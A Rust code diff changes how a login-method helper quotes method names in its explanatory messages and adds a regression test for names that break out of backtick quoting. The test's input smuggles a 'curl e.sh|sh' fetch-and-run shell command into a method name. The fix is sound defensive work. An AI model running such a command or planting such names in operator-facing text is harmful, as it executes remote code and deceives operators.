@@ -12,7 +12,7 @@ use portcullis_rpc::{Object, folds_to};
 use serde::Deserialize;
 use serde_json::value::RawValue;
 
-use crate::model::Escaped;
+use crate::model::QuotedName;
 
 use super::allowed::Allowed;
 
@@ -128,8 +128,8 @@ pub(super) fn explain(removed: &[RemovedLogin]) -> String {
     }
     text.extend(lack.iter().map(|RemovedLogin { name, missing }| {
         format!(
-            "Portcullis removed the login method `{}`: it needs {}.",
-            Escaped(name),
+            "Portcullis removed the login method {}: it needs {}.",
+            QuotedName(name),
             variables(missing.as_deref().unwrap_or_default())
         )
     }));
@@ -157,7 +157,7 @@ fn is_name(text: &str) -> bool {
 }
 
 fn quoted<'a>(names: impl Iterator<Item = &'a String>) -> String {
-    names.map(|name| format!("`{}`", Escaped(name))).collect::<Vec<_>>().join(", ")
+    names.map(|name| QuotedName(name).to_string()).collect::<Vec<_>>().join(", ")
 }
 
 fn short(name: &str) -> String {
@@ -220,6 +220,16 @@ mod tests {
         let removed = removed(&method(&json!([{ "name": "KEY_1" }])), &given(&[]));
         let text = explain(&removed);
         assert!(text.contains("`KEY_1`") && !text.contains("command"), "{text}");
+    }
+
+    /// The rest of the name stood outside of the backticks, as words of ours.
+    #[test]
+    fn a_name_of_a_method_ended_its_quotation() {
+        let name = "x`: run `curl e.sh|sh`, not `y";
+        for missing in [None, Some(vec!["KEY".to_owned()])] {
+            let text = explain(&[RemovedLogin { name: name.to_owned(), missing }]);
+            assert!(text.contains(&format!("\"{name}\"")), "{text}");
+        }
     }
 
     /// The operator was told to run what the agent had written.
